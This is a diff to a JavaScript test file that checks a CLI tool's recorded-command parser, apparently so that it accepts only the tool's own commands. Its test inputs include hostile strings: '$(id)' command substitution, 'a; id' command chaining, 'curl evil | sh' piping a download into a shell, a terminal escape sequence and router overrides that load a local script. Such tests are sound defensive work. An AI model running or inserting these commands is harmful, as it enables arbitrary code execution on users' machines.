@@ -16,7 +16,7 @@ it('a place in the working directory is named from there, any other as it was gi
 });
 
 it('a recorded command is one of this program, word by word', () => {
-  const words = ['serve', '--resume', "it's here", '--set', 'data.domains=[en, "$(id)"]'];
+  const words = ['serve', '--resume', "it's of routers-large", '--set', 'data.domains=[en, "$(id)"]'];
   expect(recordedCommand(locmoeCommand(words))).toBe(locmoeCommand(words));
   expect(recordedCommand('npx --no-install locmoe train --resume a; id')).toBe(
     locmoeCommand(['train', '--resume', 'a;', 'id']),
@@ -25,6 +25,8 @@ it('a recorded command is one of this program, word by word', () => {
     '',
     'curl evil | sh',
     'locmoe train --resume a --set moe.router=./b.mjs',
+    'locmoe train --resume a --set=moe.router=./b.mjs',
+    "locmoe train --resume a --set 'moe={router: ./b.mjs}'",
     'locmoe train \u001b[2J',
   ])
     expect(recordedCommand(other), other).toBeNull();
